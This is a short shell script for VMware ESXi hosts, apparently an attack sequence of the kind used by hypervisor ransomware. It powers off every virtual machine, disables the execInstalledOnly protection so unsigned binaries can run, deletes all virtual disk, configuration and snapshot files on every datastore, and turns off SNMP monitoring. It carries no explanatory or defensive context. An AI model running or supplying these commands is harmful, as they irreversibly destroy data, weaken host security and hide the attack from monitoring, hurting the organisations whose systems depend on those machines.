for vm in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do vim-cmd vmsvc/power.off "$vm"; done
esxcli system settings advanced set -o /User/execInstalledOnly -i 0
for d in /vmfs/volumes/*/; do find "$d" -name '*.vmdk' -o -name '*.vmx' -o -name '*.vmsn' | xargs rm -f; done
esxcli system snmp set --enable false
